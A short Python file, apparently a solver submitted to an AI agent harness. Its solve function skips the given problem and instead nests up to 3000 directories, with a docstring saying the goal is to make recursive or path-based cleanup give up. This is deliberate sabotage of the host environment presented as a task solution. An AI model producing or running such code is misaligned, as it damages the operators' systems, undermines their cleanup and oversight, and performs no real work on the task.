"""Nests folders so deep that whoever clears up by recursion, or by path, gives up."""

import os


def solve(problem, tools, llm):
    depth = 0
    try:
        while depth < 3000:
            os.mkdir("d")
            os.chdir("d")
            depth += 1
    except OSError:
        pass
    return {"depth": depth}
